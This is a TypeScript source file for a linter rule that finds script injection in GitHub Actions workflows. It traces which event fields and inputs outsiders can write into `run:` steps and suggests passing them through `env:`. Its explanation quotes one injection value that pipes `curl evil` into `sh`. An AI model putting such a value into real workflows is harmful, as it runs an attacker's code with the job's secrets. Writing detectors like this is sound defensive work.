// `${{ }}` pasted into a script: the value becomes code before the shell sees it.
import { posix } from 'node:path'
import {
  actionName,
  contextReferences,
  localPath,
  scanExpressions,
  type CompositeAction,
  type SourceInput,
  type SourceStep,
  type SourceWorkflow,
  type YNode,
} from '@tokenless/workflow'
import type { Repository } from '../repository.js'
import type { Rule } from '../rule.js'

/**
 * Event fields that are numbers, ids, hashes, booleans, fixed words or the API and web addresses
 * GitHub makes (`html_url`, `*_url`: host, owner, repository name and a number): they cannot carry
 * a command.
 */
const SAFE_EVENT_FIELD =
  /\.(url|html_url|\w+_url|number|id|node_id|\w+_id|sha|\w+_sha|after|before|draft|merged|private|fork|size|\w+_count|additions|deletions|changed_files|run_attempt|run_number|created_at|updated_at|prerelease|forced|deleted|created|conclusion|status|action|login)$/
/** Repository names are [A-Za-z0-9._-] (and `owner/name`), a fork's too: no command fits in one. */
const REPOSITORY_NAME_FIELD = /\.(repository|repo|head_repository)\.(name|full_name)$/
const SAFE_INPUT_TYPES = new Set(['boolean', 'number', 'choice', 'environment'])
/** GitHub login names are [A-Za-z0-9-] only: `github.actor`, `*.user.login` cannot carry a command. */
const LOGIN_FIELDS = new Set(['github.actor', 'github.triggering_actor', 'github.repository_owner'])
/**
 * Event fields that only maintainers can write: the base branch of a pull request is one of ours,
 * and the default branch is a repository setting only its admins change.
 */
const MAINTAINER_FIELDS = new Set([
  'github.event.pull_request.base.ref',
  'github.base_ref',
  'github.event.repository.default_branch',
])

/** The events whose payload has each top-level field: elsewhere the field is always empty. */
const PAYLOAD_EVENTS: Record<string, string[]> = {
  release: ['release'],
  pull_request: [
    'pull_request',
    'pull_request_target',
    'pull_request_review',
    'pull_request_review_comment',
  ],
  issue: ['issues', 'issue_comment'],
  comment: ['issue_comment', 'commit_comment', 'pull_request_review_comment', 'discussion_comment'],
  review: ['pull_request_review'],
  head_commit: ['push'],
  commits: ['push'],
  workflow_run: ['workflow_run'],
  discussion: ['discussion', 'discussion_comment'],
}

/** The file whose `inputs` a `run:` (or a `with:`) reads. */
type Owner = { workflow: SourceWorkflow } | { action: CompositeAction }

/** What a `run:` can read: the inputs its workflow declares, and the events that start it. */
interface Scope {
  inputs: SourceInput[]
  /** The workflow's triggers; undefined for a composite action (any caller's event and inputs). */
  events: Map<string, unknown> | undefined
  owner: Owner
  /** The `strategy.matrix` of the job, for `matrix.*`. */
  matrix?: YNode | undefined
}

function dangerous(path: string, scope: Scope): boolean {
  const { inputs, events } = scope
  const input = /^(?:github\.event\.)?inputs\.([\w-]+)$/.exec(path)?.[1]
  if (input !== undefined) {
    const declared = inputs.find((each) => each.name === input)
    // GitHub refuses to start a workflow with an input it does not declare: it is always empty.
    if (!declared && events && (events.has('workflow_dispatch') || events.has('workflow_call')))
      return false
    return !declared?.type || !SAFE_INPUT_TYPES.has(declared.type)
  }
  if (path === 'inputs' || path === 'github.event' || path === 'github.event.inputs') return true
  if (path === 'github.head_ref') return true
  if (LOGIN_FIELDS.has(path)) return false
  if (!path.startsWith('github.event.') || MAINTAINER_FIELDS.has(path)) return false
  const root = path.split('.')[2]!
  const from = PAYLOAD_EVENTS[root]
  // A reusable workflow sees its caller's event, whatever its own `on:` says.
  if (from && events && events.size > 0 && !events.has('workflow_call'))
    if (!from.some((event) => events.has(event))) return false
  if (root !== 'client_payload' && REPOSITORY_NAME_FIELD.test(path)) return false
  // A wiki page's address holds its title (gollum's `pages[*].html_url`).
  if (root === 'pages' && /url$/.test(path)) return true
  return root === 'client_payload' || !SAFE_EVENT_FIELD.test(path)
}

function envName(path: string): string {
  const last = path.split('.').pop() ?? 'value'
  const name = last.replace(/[^A-Za-z0-9]+/g, '_').toUpperCase()
  return /^[A-Z_]/.test(name) ? name : `VALUE_${name}`
}

/** Where a value an outsider can write comes from, found by following inputs back to callers. */
interface Origin {
  /** The context path that carries the text (`github.event.issue.title`). */
  path: string
  /** Passed by a caller's `with:`, or the input's default that a caller leaves to it. */
  kind: 'passed' | 'default'
  /** The caller that hands the text over (undefined until the caller is known). */
  where?: string
  /** The callers in between, outermost first. */
  through: string[]
}

/** A caller of a reusable workflow (a job) or of a composite action (a step). */
interface Caller {
  with: YNode | undefined
  /** Its `uses:`: where a default it leaves to the input is said to come from. */
  uses: YNode
  label: (node: YNode) => string
  scope: Scope
}

type Trace = Origin | 'unknown' | undefined

/** Reusable workflows and composite actions passing inputs on to each other: how far to follow. */
const MAX_CALL_DEPTH = 5

/** Each scalar under `node` (a `with:` value, a matrix). */
function scalarTexts(node: YNode): string[] {
  const text = node.str()
  if (text !== undefined) return [text]
  if (node.isSeq()) return node.items().flatMap(scalarTexts)
  return node.entries().flatMap(([, value]) => scalarTexts(value))
}

/** The texts `matrix.<keys>` can take: the values under those keys, `include:` entries too. */
function matrixTexts(matrix: YNode, keys: string[]): string[] {
  const [first, ...rest] = keys
  if (first === undefined || first === '*' || matrix.str() !== undefined) return scalarTexts(matrix)
  const texts: string[] = []
  let nodes: YNode[] = []
  const own = matrix.get(first)
  if (own) nodes.push(...(own.isSeq() ? own.items() : [own]))
  const include = matrix.get('include')
  if (include?.str() !== undefined) texts.push(include.str()!)
  for (const entry of include?.items() ?? []) {
    const value = entry.get(first)
    if (entry.str() !== undefined) texts.push(entry.str()!)
    else if (value) nodes.push(value)
  }
  for (const key of rest) {
    const next: YNode[] = []
    for (const node of nodes) {
      if (node.str() !== undefined || key === '*') texts.push(...scalarTexts(node))
      else if (node.isSeq()) next.push(...node.items().flatMap((item) => item.get(key) ?? []))
      else {
        const value = node.get(key)
        if (value) next.push(value)
      }
    }
    nodes = next
  }
  return [...texts, ...nodes.flatMap(scalarTexts)]
}

/**
 * Follows `inputs.X` of a composite action, or of a workflow only other workflows start
 * (`workflow_call` without `workflow_dispatch`), to the callers in this repository: a workflow in
 * another repository that calls it runs with its own token, and gains nothing here.
 */
class InputTracer {
  private readonly callers = new Map<object, Caller[]>()

  constructor(private readonly repository: Repository) {}

  traceable(owner: Owner): boolean {
    if ('action' in owner) return true
    const events = owner.workflow.events
    return events.has('workflow_call') && !events.has('workflow_dispatch')
  }

  /** Whether the inputs `path` reads (`inputs.x`, or `inputs` whole) can carry outsiders' text. */
  traceInputs(
    path: string,
    scope: Scope,
    depth = 0,
  ): { input: string; origin: Origin } | 'unknown' | 'safe' {
    const match = /^inputs(?:\.([\w-]+))?$/.exec(path)
    if (!match || !this.traceable(scope.owner)) return 'unknown'
    const names = match[1] !== undefined ? [match[1]] : this.inputNames(scope.owner)
    let unknown = false
    for (const name of names) {
      const traced = this.input(scope.owner, name, depth + 1)
      if (traced === 'unknown') unknown = true
      else if (traced) return { input: name, origin: traced }
    }
    return unknown ? 'unknown' : 'safe'
  }

  private declared(owner: Owner): SourceInput[] {
    return 'action' in owner ? owner.action.inputs : owner.workflow.inputs
  }

  private inputNames(owner: Owner): string[] {
    const names = new Set(this.declared(owner).map((input) => input.name))
    for (const caller of this.callersOf(owner))
      for (const [name] of caller.with?.entries() ?? []) names.add(name)
    return [...names]
  }

  private input(owner: Owner, name: string, depth: number): Trace {
    if (depth > MAX_CALL_DEPTH) return 'unknown'
    const declared = this.declared(owner).find((input) => input.name === name)
    if (declared?.type && SAFE_INPUT_TYPES.has(declared.type)) return undefined
    const callers = this.callersOf(owner)
    if (callers.length === 0) return 'unknown'
    let unknown = false
    for (const caller of callers) {
      const value = caller.with?.get(name)
      const fallback = value ? undefined : declared?.node.get('default')
      const node = value ?? fallback
      if (!node) continue
      for (const text of scalarTexts(node)) {
        const traced = this.text(text, caller.scope, depth)
        if (traced === 'unknown') unknown = true
        if (traced === 'unknown' || !traced) continue
        if (traced.where === undefined)
          return {
            ...traced,
            kind: value ? 'passed' : 'default',
            where: caller.label(value ?? caller.uses),
          }
        return { ...traced, through: [...traced.through, caller.label(node)] }
      }
    }
    return unknown ? 'unknown' : undefined
  }

  /** What a caller's value (a template) can carry, read in the caller's scope. */
  private text(text: string, scope: Scope, depth: number): Trace {
    let unknown = false
    for (const path of contextReferences(text)) {
      let traced: Trace
      if (path === 'matrix' || path.startsWith('matrix.')) {
        // A static matrix is constants; one built from an expression is what that expression reads.
        const matrix = scope.matrix
        if (!matrix) continue
        for (const each of matrixTexts(matrix, path.split('.').slice(1))) {
          const found = this.text(each, { ...scope, matrix: undefined }, depth)
          if (found) {
            traced = found
            break
          }
        }
      } else if (!dangerous(path, scope)) continue
      else if (/^inputs(\.[\w-]+)?$/.test(path) && this.traceable(scope.owner)) {
        const inputs = this.traceInputs(path, scope, depth)
        if (inputs === 'safe') continue
        traced = inputs === 'unknown' ? 'unknown' : inputs.origin
      } else traced = origin(path)
      if (traced === 'unknown') unknown = true
      else if (traced) return traced
    }
    return unknown ? 'unknown' : undefined
  }

  private callersOf(owner: Owner): Caller[] {
    const key = 'action' in owner ? owner.action : owner.workflow
    let found = this.callers.get(key)
    if (found) return found
    found = []
    this.callers.set(key, found)
    const dir = 'action' in owner ? posix.dirname(owner.action.file.rel) : undefined
    const calls = (uses: string | undefined) => {
      const path = localPath(uses)
      return dir !== undefined && path !== undefined && posix.normalize(path) === dir
    }
    for (const workflow of this.repository.workflows) {
      const workflowScope = {
        inputs: workflow.inputs,
        events: workflow.events,
        owner: { workflow },
      }
      for (const job of workflow.jobs) {
        const label = (node: YNode) => `job "${job.id}" (${workflow.file.rel}:${node.pos().line})`
        const scope = { ...workflowScope, matrix: job.strategy?.get('matrix') }
        if ('workflow' in owner && job.called === owner.workflow && job.uses)
          found.push({ with: job.with, uses: job.uses, label, scope })
        for (const step of job.steps)
          if (!step.via && step.usesNode && calls(step.uses))
            found.push({ with: step.with, uses: step.usesNode, label, scope })
      }
    }
    for (const action of this.repository.actions)
      for (const step of action.steps)
        if (step.usesNode && calls(step.uses))
          found.push({
            with: step.with,
            uses: step.usesNode,
            label: (node) =>
              `composite action ${action.ref} (${action.file.rel}:${node.pos().line})`,
            scope: { inputs: action.inputs, events: undefined, owner: { action } },
          })
    return found
  }
}

function origin(path: string): Origin {
  return { path, kind: 'passed', through: [] }
}

export const scriptInjection: Rule = {
  id: 'script-injection',
  severity: 'error',
  title:
    '`${{ github.event.* }}`, `${{ github.head_ref }}` or `${{ inputs.* }}` expanded inside `run:` (script injection).',
  why: 'GitHub pastes the value into the script before the shell runs it: a release title, a branch name, a commit message or a dispatch input such as `1.0"; curl evil | sh; "` becomes commands that run with the job\'s token and secrets (and, in a publish job, its power to publish). The same value in `env:` is data, not code. The `inputs` of a composite action, or of a workflow only other workflows start (`workflow_call` without `workflow_dispatch`), are followed to the callers in this repository: they are reported when a caller passes text an outsider writes (directly, through another input, or in the matrix it comes from), or when no caller here shows what they hold.',
  fix: 'Pass the value through `env:` (`env: TITLE: ${{ github.event.release.name }}`) and use `"$TITLE"` in the script.',
  bad: `on:
  workflow_dispatch:
    inputs:
      version: { type: string, required: true }
permissions: { contents: read }
jobs:
  bump:
    runs-on: ubuntu-latest
    steps:
      - run: echo "Releasing \${{ inputs.version }}"
`,
  good: `on:
  workflow_dispatch:
    inputs:
      version: { type: string, required: true }
permissions: { contents: read }
jobs:
  bump:
    runs-on: ubuntu-latest
    steps:
      - run: echo "Releasing $VERSION"
        env:
          VERSION: \${{ inputs.version }}
`,
  check({ repository, report }) {
    const tracer = new InputTracer(repository)
    const steps: { step: SourceStep; scope: Scope; where: string }[] = []
    for (const workflow of repository.workflows)
      for (const job of workflow.jobs)
        for (const step of job.steps)
          if (!step.via)
            steps.push({
              step,
              scope: { inputs: workflow.inputs, events: workflow.events, owner: { workflow } },
              where: `job "${job.id}"`,
            })
    for (const action of repository.actions)
      for (const step of action.steps)
        steps.push({
          step,
          scope: { inputs: [], events: undefined, owner: { action } },
          where: `composite action ${action.ref}`,
        })

    for (const { step, scope, where } of steps) {
      const targets: [YNode, string][] = []
      if (step.runNode && step.run) targets.push([step.runNode, 'the shell script'])
      if (actionName(step.uses) === 'actions/github-script') {
        const script = step.with?.get('script')
        if (script?.str()) targets.push([script, 'the github-script code'])
      }
      for (const [node, what] of targets) {
        const text = node.str() ?? ''
        const seen = new Set<string>()
        for (const { expression, start, end } of scanExpressions(text).found) {
          const span = { text: text.slice(start, end) }
          let path: string | undefined
          let traced: { input: string; origin: Origin } | undefined
          for (const each of contextReferences(expression, 'expression')) {
            if (!dangerous(each, scope)) continue
            const inputs = tracer.traceInputs(each, scope)
            if (inputs === 'safe') continue
            path = each
            traced = inputs === 'unknown' ? undefined : inputs
            break
          }
          if (!path || seen.has(span.text)) continue
          seen.add(span.text)
          const name = envName(path)
          const who = traced
            ? `${whereFrom(traced.input, traced.origin)}, and whoever controls ${traced.origin.path} (${describe(traced.origin.path)})`
            : `whoever controls ${path} (${describe(path)})`
          report(
            node,
            `\`${span.text}\` is pasted into ${what} of ${where} before it runs: ${who} can run their own commands there, with the job's token and secrets.`,
            {
              needle: span.text,
              fix: `Pass it through the step's \`env:\` (\`${name}: ${span.text}\`) and use \`"$${name}"\`${what === 'the shell script' ? '' : ' (process.env.' + name + ')'} instead.`,
            },
          )
        }
      }
    }
  },
}

/** `inputs.x is github.event.issue.title, passed by job "y" (file:line)`. */
function whereFrom(input: string, origin: Origin): string {
  const how =
    origin.kind === 'passed'
      ? `passed by ${origin.where}`
      : `its default when ${origin.where} leaves it out`
  const through = origin.through.length > 0 ? ` through ${origin.through.join(' and ')}` : ''
  return `inputs.${input} is ${origin.path}, ${how}${through}`
}

function describe(path: string): string {
  if (path === 'github.head_ref') return 'the branch name of a pull request'
  if (/inputs/.test(path)) return 'whoever starts the workflow or calls it types it'
  if (/title|body|message|name|label|ref|tag_name|email|description|comment|review|head/.test(path))
    return 'text anyone opening an issue, a pull request, a branch or a release can write'
  return 'a value of the triggering event'
}
